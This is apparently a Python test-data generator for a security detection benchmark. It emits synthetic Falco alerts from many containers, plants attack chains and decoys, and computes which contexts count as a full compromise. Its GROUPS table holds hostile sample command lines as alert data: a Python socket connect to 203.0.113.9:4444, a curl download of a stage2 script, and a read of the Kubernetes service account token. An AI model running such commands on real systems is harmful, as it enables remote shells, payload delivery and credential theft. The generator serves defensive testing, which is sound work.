"""A seeded stream of alerts as Falco sends them, with the answer known: which contexts are a full compromise.

5,000 containers, chosen by Zipf, of one to four services each; every service is a session of its own below its own
root, so that our execution context and the (container, session) of simpler tools mean the same place. Most contexts
never see all three kinds of evidence; chains are planted in every order, and decoys whose evidence lies further apart
than the window. One alert of a hundred arrives up to twenty seconds late.
"""

import random
import time
from collections.abc import Iterable, Sequence
from functools import cache
from itertools import accumulate, permutations
from typing import Any, NamedTuple

import msgspec

BEGIN = 1_704_078_000_000_000_000
"""2024-01-01 03:00 UTC: in the past, since times of the future are clamped."""

SPAN = 7_200
"""Seconds that the stream lasts."""

WINDOW = 900
"""Seconds: that of the shipped correlation rule."""

CONTAINERS = 5_000
PLANTED = 0.002
"""Planted chains and decoys for each alert: 400 of 200,000."""

DENSE = 60
"""Relevant alerts of a context from which on it may see everything, since then it surely does so within a window."""

LATE = 0.01

GROUPS: dict[str, tuple[str, list[str], str, str]] = {
    "W": (
        "Web server started a shell or tool",
        ["T1190", "T1505.003", "container", "maturity_sandbox", "mitre_persistence", "process", "webrce_web_shell"],
        "sh",
        "sh -c id; uname -a; ls -la /var/www/html",
    ),
    "S": (
        "Python command line with socket or shell",
        ["T1059.006", "container", "maturity_sandbox", "mitre_execution", "process", "webrce_shell_technique"],
        "python3",
        "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.9',4444))",
    ),
    "N": (
        "Network utility",
        ["T1071", "T1105", "container", "maturity_sandbox", "mitre_command_and_control", "process", "webrce_network"],
        "curl",
        "curl -fsSL https://203.0.113.9/stage2.sh -o /tmp/.cache/stage2.sh",
    ),
    "C": (
        "Kubernetes service account token read",
        ["T1528", "container", "filesystem", "maturity_sandbox", "mitre_credential_access", "webrce_credential"],
        "cat",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    ),
}
"""Rule, tags, process and command line of one detection of each kind."""

OTHERS = [f"{what} {number}" for number in range(1, 21) for what in (
    "Contact K8S API server from container", "Drop and execute new binary in container", "Packet socket created",
    "Clear log activities", "Unexpected outbound connection",
)]  # fmt: skip
"""Rules that nobody correlates."""

NEVER_ALL = ("W", "SN", "NC", "WN", "S", "C", "WS")
"""What a context sees that is no compromise."""


class Event(NamedTuple):
    """One alert before it is written: `at` in seconds; `kind` is W, S, N, C, or "" for irrelevant."""

    at: float
    container: int
    session: int
    kind: str


class Workload(NamedTuple):
    """Alerts in their order of arrival; `truth` and `decoys` name contexts as `container/session`."""

    alerts: list[bytes]
    truth: frozenset[str]
    decoys: frozenset[str]


def generate(count: int, relevant: float, seed: int = 1) -> Workload:
    """Make `count` alerts of which a share is relevant."""
    rng = random.Random(f"{seed} {count} {relevant}")
    planted, decoys = _planted(rng, count)
    background = count - len(planted)
    share = max(relevant * count - len(planted), 0) / background
    events = planted + _background(rng, background, share)
    arrivals = sorted(events, key=lambda event: event.at + (rng.random() * 20 if rng.random() < LATE else 0))
    alerts = [alert(number, event, rng.randrange(1000)) for number, event in enumerate(arrivals)]
    return Workload(alerts, compromised(events), frozenset(name(event) for event in decoys))


def name(event: Event) -> str:
    """The context of an event as tools that know container and session name it."""
    return f"{container_id(event.container)}/{root(event.container, event.session)}"


def container_id(container: int) -> str:
    """Twelve hexadecimal digits, as Falco has them."""
    return f"{container * 7919 + 0x10000000:012x}"


def root(container: int, session: int) -> int:
    """Process id of the service root, which leads the session."""
    return 10_000 + (container * 8 + session) * 4


def compromised(events: Iterable[Event], window: float = WINDOW) -> frozenset[str]:
    """The truth: contexts where W, C, and S or N lie within one window."""
    seen: dict[tuple[int, int], list[Event]] = {}
    for event in sorted(events):
        if event.kind:
            seen.setdefault((event.container, event.session), []).append(event)
    return frozenset(name(own[0]) for own in seen.values() if _within(own, window))


def _within(events: Sequence[Event], window: float) -> bool:
    last: dict[str, float] = {}
    for event in events:
        last["N" if event.kind == "S" else event.kind] = event.at
        if len(last) == 3 and event.at - min(last.values()) <= window:
            return True
    return False


def _planted(rng: random.Random, count: int) -> tuple[list[Event], list[Event]]:
    """Chains in all orders and decoys, each in a session of its own; the second list names the decoys."""
    orders = ["".join(order) for third in "SN" for order in permutations(f"W{third}C")]
    chains = max(round(count * PLANTED), 16)
    containers = rng.sample(range(CONTAINERS), chains)
    events: list[Event] = []
    decoys: list[Event] = []
    for number, container in enumerate(containers):
        kinds = orders[number // 2 % len(orders)]
        step = rng.uniform(1, WINDOW / 2 - 30)
        if number % 4 == 3:
            step = rng.uniform(WINDOW + 60, WINDOW + 900)
            decoys.append(Event(0, container, 7, ""))
        elif number % 8 == 2:
            kinds = kinds[:2]
        first = rng.uniform(60, SPAN - 60 - 2 * step)
        events += [Event(first + place * step, container, 7, kind) for place, kind in enumerate(kinds)]
    return events, decoys


@cache
def _weights() -> list[float]:
    return list(accumulate(1 / (rank + 1) ** 1.1 for rank in range(CONTAINERS)))


def _background(rng: random.Random, count: int, share: float) -> list[Event]:
    weights, events = _weights(), []
    total = weights[-1]
    for number, container in enumerate(rng.choices(range(CONTAINERS), cum_weights=weights, k=count)):
        sessions = 1 + container % 4
        session = rng.randrange(sessions)
        kind = ""
        if rng.random() < share:
            expected = count * share / (container + 1) ** 1.1 / total / sessions
            kind = rng.choice("WSNC" if expected >= DENSE else NEVER_ALL[(container + 3 * session) % len(NEVER_ALL)])
        events.append(Event((number + rng.random()) * SPAN / count, container, session, kind))
    return events


def alert(number: int, event: Event, word: int = 0) -> bytes:
    """An event as Falco writes it: keys sorted, so the rule comes after the output fields."""
    rule, tags, process, command = GROUPS.get(event.kind) or (
        OTHERS[number % len(OTHERS)],
        ["container", "maturity_incubating", "mitre_execution", "network"],
        "worker",
        f"worker --queue mail --job {number}",
    )
    at = BEGIN + int(event.at * 1e9)
    fields = _fields(event, number, process, f"{command} #{word}", at)
    stamp = rfc3339(at)
    return msgspec.json.encode(
        {
            "hostname": "node-1",
            "output": f"{stamp}: Notice {rule} | process={process} command={fields['proc.cmdline']} "
            f"container={fields['container.name']} pod={fields['k8s.pod.name']} user=www-data",
            "output_fields": fields,
            "priority": "Notice",
            "rule": rule,
            "source": "syscall",
            "tags": tags,
            "time": stamp,
        }
    )


def _fields(event: Event, number: int, process: str, command: str, at: int) -> dict[str, Any]:
    service = root(event.container, event.session)
    tini, shim = 200_000 + event.container * 2, 200_001 + event.container * 2
    above = [("nginx", service), ("tini", tini), ("containerd-shim", shim)]
    if event.kind != "W":
        above = [("sh", service + 2), *above]
    return {
        "container.id": container_id(event.container),
        "container.image.repository": f"registry.example/shop/app-{event.container % 40}",
        "container.name": f"app-{event.container}",
        "evt.type": "openat" if event.kind == "C" else "execve",
        "k8s.ns.name": "shop",
        "k8s.pod.name": f"app-{event.container}-7d9f",
        "proc.aname[1]": above[0][0],
        "proc.aname[2]": above[1][0],
        "proc.aname[3]": above[2][0],
        "proc.apid[2]": above[1][1],
        "proc.apid[3]": above[2][1],
        "proc.cmdline": command,
        "proc.name": process,
        "proc.pid": 1_000_000 + number,
        "proc.pid.ts": at - 1_000_000,
        "proc.ppid": above[0][1],
        "proc.sid": service,
        "proc.tty": 0,
        "user.name": "www-data",
    }


def rfc3339(nanoseconds: int) -> str:
    """A time as Falco writes it."""
    seconds, rest = divmod(nanoseconds, 10**9)
    return f"{time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(seconds))}.{rest:09d}Z"
